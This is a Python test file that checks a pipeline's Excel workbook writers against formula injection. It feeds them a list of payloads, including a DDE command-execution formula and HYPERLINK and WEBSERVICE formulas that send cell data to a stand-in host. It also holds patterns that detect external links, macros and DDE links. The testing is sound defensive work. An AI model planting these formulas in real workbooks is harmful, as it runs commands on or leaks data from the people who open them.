"""No workbook that the program writes runs anything that somebody wrote into a ledger or a definition."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
from collections.abc import Callable, Mapping
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from pipeline.build import finish, sources
from pipeline.define import define
from pipeline.hand_out import hand_out
from pipeline.model.definition import ValueType
from pipeline.model.diagnostic import CellLocation, Diagnostic, Severity
from pipeline.model.job import Job
from pipeline.model.period import Period
from pipeline.send_back import marked_copy
from tests.support.bare_package import unzipped
from tests.support.drawn_ledgers import column, definitions, ledger

PACKAGE = Path(__file__).parents[2] / "pipeline"
ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=WEBSERVICE("http://evil.example")',
    "＝1+1",
    "{=1}",
    "<r><t>1</t></r>",
    "_x0041_",
    '"&1&"',
    '""&CHAR(65)&""',
    ">1",
    "*",
    "~?",
    "http://evil.example",
    "[外]表!A1",
    "'甲",
    "<f>1+1</f>",
)
HIDDEN = ("\t=1", "\r=1", "\n=1")
"""Texts that reading brings into one line before anything is made of them."""
FUNCTIONS = frozenset(
    {
        *("ABS", "AND", "AVERAGE", "COUNT", "COUNTA", "COUNTIF", "COUNTIFS", "DATE", "EXACT", "FIND", "IF"),
        *(
            "FREQUENCY",
            "IFERROR",
            "INDEX",
            "INT",
            "ISERROR",
            "ISNUMBER",
            "LEN",
            "MATCH",
            "MAX",
            "MEDIAN",
            "MIN",
            "OR",
            "ROUND",
            "ROW",
            "SMALL",
        ),
        *("SUBSTITUTE", "SUM", "SUMIF", "SUMIFS", "SUMPRODUCT", "TEXT", "TRIM", "TRUNC"),
    }
)
TOKEN = re.compile(
    r"""(?P<text>"(?:[^"]|"")*")|(?P<sheet>'(?:[^']|'')*'!)|(?P<function>[A-Z]+)\(|(?P<cell>\$?[A-Z]{1,3}\$?\d+)"""
    r"""|(?P<rows>\$?\d+:\$?\d+)|(?P<number>\d+(?:\.\d+)?(?:E-?\d+)?)|(?P<error>\#(?:N/A|NUM!|DIV/0!|VALUE!|REF!))"""
    r"""|(?P<truth>TRUE|FALSE)|(?P<sign>[-+*/^&=<>(),:{};% ])"""
)


def not_of_ours(formula: str) -> str:
    """Return what of a formula is neither a quoted text, a place, a number, a sign, nor a function that is known."""
    rest, at = [], 0
    for found in TOKEN.finditer(formula):
        rest.append(formula[at : found.start()])
        if found["function"] and found["function"] not in FUNCTIONS:
            rest.append(found["function"])
        at = found.end()
    return "".join([*rest, formula[at:]])


def check(data: bytes, *, formulas: bool) -> None:
    """Hold a workbook to it: no formula but ours, no link, no macro, nothing that leads out of it."""
    parts = unzipped(data)
    assert not [
        name for name in parts if re.search("external|connection|vba|activeX|ctrlProp|query", name, re.IGNORECASE)
    ]
    for name, part in parts.items():
        text = part.decode("utf-8", errors="replace")
        assert "External" not in text or not name.endswith(".rels"), name
        assert "ddeLink" not in text
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert not book.defined_names
    assert all(each.startswith("_xlnm.") for sheet in book for each in sheet.defined_names)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert formulas, f"{sheet.title}!{cell.coordinate} {cell.value}"
                    formula = getattr(cell.value, "text", cell.value)
                    assert not_of_ours(str(formula)) == "", formula
        for rule in sheet.data_validations.dataValidation:
            for formula in (rule.formula1, rule.formula2):
                assert not_of_ours(str(formula or "")) == "", formula


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)
    return {str(cell.value).replace("_x005F_", "_") for cell in cells}  # openpyxl leaves escapes as they stand


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An office whose definitions and ledger say nothing but attacks."""
    folder = tmp_path_factory.mktemp("office")
    (folder / "templates").mkdir()
    choices = ", ".join(map(quoted, ATTACKS))
    (folder / "unit.yaml").write_text("名称: '=某局'\n简称: '=某局'\n", encoding="utf-8")
    columns = "\n".join(f"    {quoted(f'{attack}列')}: 文本" for attack in ATTACKS)
    (folder / "ledgers.yaml").write_text(
        f"'=台账':\n  文件: 台账.csv\n  列:\n    名称: {{类型: 文本, 必填: true}}\n"
        f"    选项: {{类型: 选项, 取值: [{choices}]}}\n    数: {{类型: 整数}}\n{columns}\n",
        encoding="utf-8",
    )
    listed = "\n".join(
        f"  甲{at}: {{台账: '=台账', 算法: 求和, 列: 数, 条件: {{名称: [{quoted(each)}, 甲]}}, 单位: 个}}\n"
        f"  乙{at}: {{台账: '=台账', 算法: 计数, 条件: {{名称: {{包含: {quoted(each)}}}}}, 单位: 个}}"
        for at, each in enumerate(ATTACKS)
    )
    (folder / "figures.yaml").write_text(
        f"指标:\n{listed}\n  各项: {{台账: '=台账', 算法: 计数, 单位: 个, 分组: 名称}}\n"
        "  种数: {台账: '=台账', 算法: 去重, 列: 名称, 单位: 种}\n  名单: {台账: '=台账', 算法: 列举, 列: 名称}\n"
        "  表: {表格: {分组: 名称, 指标: [种数]}}\n",
        encoding="utf-8",
    )
    (folder / "templates" / "总结.md").write_text(
        "---\n标题: 总结\n---\n共{{ 种数 }}。\n\n{{ 表 }}\n\n{{ 表|图表('柱形图') }}\n", encoding="utf-8"
    )
    with (folder / "台账.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["名称", "选项", "数", *(f"{attack}列" for attack in ATTACKS)])
        rows.writerows([attack, attack, 1, *ATTACKS] for attack in ATTACKS)
    return folder


def job(folder: Path) -> Job:
    return Job(folder, Period.parse("2025"), date(2025, 12, 31))


def source_tables(office: Path) -> Mapping[str, bytes]:
    results = finish(job(office))
    return sources(job(office), results.value).value


def blank_ledgers(office: Path) -> Mapping[str, bytes]:
    return hand_out(define(office).value).value


def chart_books(office: Path) -> Mapping[str, bytes]:
    text = (office / "台账.csv").read_text(encoding="utf-8")
    clean = office.parent / "clean"
    if not clean.exists():
        clean.mkdir()
        for path in office.rglob("*"):
            if path.is_file():
                target = clean / path.relative_to(office)
                target.parent.mkdir(exist_ok=True)
                target.write_bytes(path.read_bytes())
        (clean / "台账.csv").write_text(text.rpartition("甲,")[0], encoding="utf-8")
    outcome = finish(job(clean))
    assert outcome.value.documents, [
        str(each.message) for each in outcome.diagnostics if each.severity is Severity.ERROR
    ]
    word = unzipped(outcome.value.documents[0].word)
    return {name: data for name, data in word.items() if name.endswith(".xlsx")}


def marked_copies(office: Path) -> Mapping[str, bytes]:
    data = (office / "台账.csv").read_bytes()
    found = [
        Diagnostic("V012", Severity.ERROR, CellLocation("台账.csv", "台账", f"A{row}"), attack, f"建议{attack}")
        for row, attack in enumerate(ATTACKS, start=2)
    ]
    made = marked_copy("台账.csv", data, found, define(office).value)
    assert made.value is not None
    return {"台账.xlsx": made.value}


WRITERS: Mapping[str, tuple[Callable[[Path], Mapping[str, bytes]], bool]] = {
    "source_table": (source_tables, True),
    "hand_out": (blank_ledgers, False),
    "write": (chart_books, False),
    "send_back": (marked_copies, False),
}
"""Every part that writes workbooks, how to have it write some, and whether they have formulas."""


def test_these_are_all_the_parts_that_write_workbooks() -> None:
    writing = {
        path.relative_to(PACKAGE).parts[0]
        for path in PACKAGE.rglob("*.py")
        if re.search(r"^\s*(?:from|import) (?:xlsxwriter|openpyxl)", path.read_text(encoding="utf-8"), re.MULTILINE)
    }
    assert writing - {"spreadsheet"} == set(WRITERS)
    plain = [path for path in PACKAGE.rglob("*.py") if "csv.writer" in path.read_text(encoding="utf-8")]
    assert plain == []


@pytest.fixture
def options(monkeypatch: pytest.MonkeyPatch) -> list[Mapping[str, object]]:
    """What each new workbook is told to do with texts."""
    told: list[Mapping[str, object]] = []
    begin = xlsxwriter.Workbook.__init__

    def begun(book: object, file: object = None, chosen: Mapping[str, object] | None = None) -> None:
        told.append(dict(chosen or {}))
        begin(book, file, chosen)

    monkeypatch.setattr(xlsxwriter.Workbook, "__init__", begun)
    return told


@pytest.mark.parametrize("part", WRITERS)
def test_nothing_in_them_runs(part: str, office: Path, options: list[Mapping[str, object]]) -> None:
    write, formulas = WRITERS[part]
    books = write(office)
    assert books
    # Not even where a cell is written without saying of what type it is.
    kept = ("strings_to_formulas", "strings_to_urls", "strings_to_numbers")
    assert [{name: chosen.get(name) for name in kept} for chosen in options] == [dict.fromkeys(kept, False)] * len(
        options
    )
    assert options
    for data in books.values():
        check(data, formulas=formulas)
        assert (b"<f>" in unzipped(data)["xl/worksheets/sheet1.xml"]) is formulas


def test_what_was_written_stays_text(office: Path) -> None:
    (blank,) = blank_ledgers(office).values()
    assert {f"{attack}列" for attack in ATTACKS} <= {each.removesuffix("（选填）") for each in texts(blank)} | {
        each.partition("　")[2] for each in texts(blank)
    }
    (copy,) = marked_copies(office).values()
    assert set(ATTACKS) <= texts(copy)
    (table,) = source_tables(office).values()
    assert set(ATTACKS) - {"<r><t>1</t></r>"} <= texts(table)


def test_the_check_finds_what_it_looks_for() -> None:
    for formula in ("=cmd|' /C calc'!A0", '=WEBSERVICE("http://x")', '=HYPERLINK("x")', "=CALL(1)", "=[1]表!A1"):
        assert not_of_ours(formula)
    assert not_of_ours("""=SUMPRODUCT(('台账-名册'!$E$4:$E$9="=cmd|' /C calc'!A0")*1)""") == ""


@pytest.mark.parametrize("text", ["甲\0乙", "甲\x01乙", "甲\ud800乙", "甲￾乙", "甲" * 40_000, "𠮷" * 20_000])
def test_what_a_workbook_cannot_hold_is_left_out_and_no_more(text: str) -> None:
    from pipeline.spreadsheet import new_book, write_text  # noqa: PLC0415 - this test alone writes by itself

    buffer = io.BytesIO()
    book = new_book(buffer, "书")
    write_text(book, book.add_worksheet("表"), (0, 0), text, None)
    book.close()
    (kept,) = texts(buffer.getvalue())
    assert kept == ("甲乙" if len(text) == 3 else text[: 32_767 if text[0] == "甲" else 16_383])


@pytest.mark.parametrize("sign", ["\x01", "\x0b", "\ufffe", "\ud800"])
def test_what_xml_cannot_hold_breaks_no_blank_ledger(sign: str) -> None:
    made = definitions(
        ledger(
            f"台账{sign}",
            column(f"名称{sign}", ValueType.TEXT, required=True, unit=f"个{sign}"),
            column("形式", ValueType.CHOICE, choices=(f"线上{sign}", "线下")),
            column("长", ValueType.CHOICE, choices=tuple(f"第{at}种很长的选项{sign}" for at in range(60))),
        )
    )
    for data in hand_out(made).value.values():
        book = openpyxl.load_workbook(io.BytesIO(data))
        assert book.sheetnames[0].startswith("台账")
        assert book.worksheets[0].data_validations.count >= 4


def test_a_ledger_with_a_name_that_is_no_text_can_be_built_from(office: Path, tmp_path: Path) -> None:
    """Files that another system unpacked have names in another encoding."""
    folder = tmp_path / "unit"
    shutil.copytree(office, folder)
    definition = (folder / "ledgers.yaml").read_text(encoding="utf-8")
    (folder / "ledgers.yaml").write_text(definition.replace("台账.csv", "'*.csv'"), encoding="utf-8")
    try:
        (folder / "台账.csv").rename(folder / os.fsdecode("台账".encode("gbk") + b".csv"))
    except OSError:
        pytest.skip("this system has no such names")
    results = finish(job(folder))
    assert results.value.documents
    check(next(iter(sources(job(folder), results.value).value.values())), formulas=True)
